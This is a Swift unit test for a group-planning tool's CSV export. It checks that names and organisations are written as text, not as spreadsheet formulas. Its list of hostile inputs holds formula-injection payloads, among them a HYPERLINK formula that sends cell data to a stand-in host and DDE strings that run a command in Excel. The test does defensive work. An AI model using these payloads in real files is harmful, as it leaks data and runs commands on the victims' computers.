import Foundation
import KenshuModel
import Testing

@testable import KenshuGroups

/// The group plan CSV is opened in Excel: names and organisations that a spreadsheet would
/// run as formulas are written as text.
@Suite struct GroupPlanCSVFormulaTests {
  static let hostile = [
    "=HYPERLINK(\"https://evil.example.org/?\"&A1,\"詳細\")", "+81-3-0000-0000 cmd", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
  ]

  @Test func test_everyFormulaLikeCell_isGuarded() {
    var people = GroupTestSupport.randomPeople(count: 6, seed: 9)
    for (index, text) in Self.hostile.enumerated() {
      people[index].name = text
      people[index].organisation = text
    }
    let csv = GroupFormation(participants: people, settings: GroupFormationSettings(size: 3, rounds: 1)).run()
      .renderCSV()
    for text in Self.hostile {
      // Quoted or not, the cell starts with the apostrophe.
      let guarded = "'" + text
      #expect(
        csv.contains(guarded) || csv.contains("\"" + guarded.replacingOccurrences(of: "\"", with: "\"\"")))
      #expect(!csv.contains("," + text + ","), "\(text) written as a formula")
    }
    #expect(csv.hasPrefix("round,group,person id,name,profession,organisation,role\r\n"))
  }
}
